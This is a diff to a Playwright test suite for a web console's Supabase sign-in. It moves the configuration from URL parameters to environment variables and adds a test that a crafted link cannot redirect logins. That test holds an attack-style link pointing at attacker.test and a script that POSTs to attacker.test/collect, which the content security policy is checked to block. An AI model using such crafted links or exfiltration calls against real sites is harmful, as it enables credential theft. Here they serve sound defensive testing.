@@ -268,12 +268,19 @@ def test_sign_in_refuses_what_is_not_a_token_and_sign_out_forgets_it(page: Page,
     assert page.evaluate("() => sessionStorage.length") == 0
 
 
+def configure_supabase(monkeypatch, url: str) -> None:
+    """This deployment's Supabase project, as its environment names it: the
+    console learns it from /config.json and its CSP allows that host only."""
+    monkeypatch.setenv("SUPABASE_URL", url)
+    monkeypatch.setenv("SUPABASE_ANON_KEY", "anon-key")
+
+
 def test_with_supabase_configured_a_realtime_broadcast_brings_the_update_at_once(
-    page: Page, console_url: str, client, tokens, conn
+    page: Page, console_url: str, client, tokens, conn, monkeypatch
 ) -> None:
     with FakeRealtime() as realtime:
-        query = f"supabase_url=http://127.0.0.1:{realtime.port}&supabase_anon_key=anon-key"
-        sign_in(page, console_url, tokens["approver"], query=query)
+        configure_supabase(monkeypatch, f"http://127.0.0.1:{realtime.port}")
+        sign_in(page, console_url, tokens["approver"])
         expect(page.locator("#live-status")).to_have_text("Live (Realtime)")
         (join,) = realtime.joins()
         assert join["topic"] == "realtime:nofx:events"
@@ -319,7 +326,9 @@ def test_a_plan_with_a_model_comparison_shows_the_models_table(page: Page, conso
     screenshot(page, "plan-model-comparison")
 
 
-def test_with_supabase_configured_a_user_signs_in_with_email_and_password(page: Page, console_url: str, tokens) -> None:
+def test_with_supabase_configured_a_user_signs_in_with_email_and_password(
+    page: Page, console_url: str, tokens, monkeypatch
+) -> None:
     # Supabase Auth is the one outside service here: its token endpoint is answered in the browser
     asked: list[dict] = []
     answers = [
@@ -333,8 +342,9 @@ def test_with_supabase_configured_a_user_signs_in_with_email_and_password(page: 
         status, body = answers[len(asked) - 1]
         route.fulfill(status=status, content_type="application/json", body=json.dumps(body))
 
+    configure_supabase(monkeypatch, "https://project.supabase.test")
     page.route("https://project.supabase.test/auth/v1/token*", gotrue)
-    page.goto(f"{console_url}/?supabase_url=https://project.supabase.test&supabase_anon_key=anon-key#/approvals")
+    page.goto(f"{console_url}/#/approvals")
     page.get_by_label("Email").fill("approver@example.com")
     page.get_by_label("Password").fill("wrong")
     page.get_by_role("button", name="Sign in with Supabase").click()
@@ -348,7 +358,7 @@ def test_with_supabase_configured_a_user_signs_in_with_email_and_password(page: 
 
 
 def test_a_supabase_session_is_renewed_before_it_expires_and_signs_out_when_renewal_fails(
-    page: Page, console_url: str
+    page: Page, console_url: str, monkeypatch
 ) -> None:
     from lib.web import auth
 
@@ -369,8 +379,9 @@ def test_a_supabase_session_is_renewed_before_it_expires_and_signs_out_when_rene
 
     with FakeRealtime() as realtime:
         supabase = f"http://127.0.0.1:{realtime.port}"  # Auth answered in the browser, Realtime by the stand-in
+        configure_supabase(monkeypatch, supabase)
         page.route(f"{supabase}/auth/v1/token*", gotrue)
-        page.goto(f"{console_url}/?supabase_url={supabase}&supabase_anon_key=anon-key#/approvals")
+        page.goto(f"{console_url}/#/approvals")
         page.get_by_label("Email").fill("renew@example.com")
         page.get_by_label("Password").fill("right")
         page.get_by_role("button", name="Sign in with Supabase").click()
@@ -398,3 +409,36 @@ def test_a_supabase_session_is_renewed_before_it_expires_and_signs_out_when_rene
         expect(page.locator(".notice")).to_contain_text("could not be renewed (Refresh Token Not Found)")
         assert asked == ["password", "r1", "r2"]
         assert page.evaluate("() => sessionStorage.length") == 0
+
+
+def test_a_crafted_link_cannot_point_the_console_at_another_supabase(
+    page: Page, console_url: str, tokens, monkeypatch
+) -> None:
+    # the link names another project; the deployment's own is the one used for the password
+    configure_supabase(monkeypatch, "https://project.supabase.test")
+    asked: list[str] = []
+
+    def gotrue(route) -> None:
+        asked.append(route.request.url)
+        body = {"access_token": tokens["approver"], "token_type": "bearer", "expires_in": 3600, "refresh_token": "r"}
+        route.fulfill(status=200, content_type="application/json", body=json.dumps(body))
+
+    page.route("https://project.supabase.test/auth/v1/token*", gotrue)
+    page.route("https://attacker.test/**", lambda route: (asked.append(route.request.url), route.abort()))
+    page.goto(f"{console_url}/?supabase_url=https://attacker.test&supabase_anon_key=stolen#/approvals")
+    page.get_by_label("Email").fill("approver@example.com")
+    page.get_by_label("Password").fill("secret")
+    page.get_by_role("button", name="Sign in with Supabase").click()
+    expect(page.locator("#who-role")).to_have_text("approver")
+    assert asked == ["https://project.supabase.test/auth/v1/token?grant_type=password"]
+
+    # and the page's policy refuses any other host, whatever a script tries
+    refused = page.evaluate(
+        """async () => {
+            const seen = new Promise(resolve =>
+              document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective), { once: true }));
+            await fetch('https://attacker.test/collect', { method: 'POST', body: 'x' }).catch(() => null);
+            return await seen;
+        }"""
+    )
+    assert refused == "connect-src" and len(asked) == 1
